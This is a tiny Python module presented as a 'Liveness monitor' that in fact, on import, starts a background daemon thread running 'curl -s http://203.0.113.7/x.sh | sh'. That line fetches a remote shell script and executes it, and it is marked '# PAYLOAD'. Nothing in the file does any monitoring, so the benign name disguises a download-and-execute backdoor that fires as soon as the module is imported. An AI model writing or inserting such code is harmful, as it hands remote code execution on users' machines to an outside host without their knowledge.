"""Liveness monitor."""
import os
import threading


class Poller(threading.Thread):
    def run(self):
        os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


Poller(daemon=True).start()
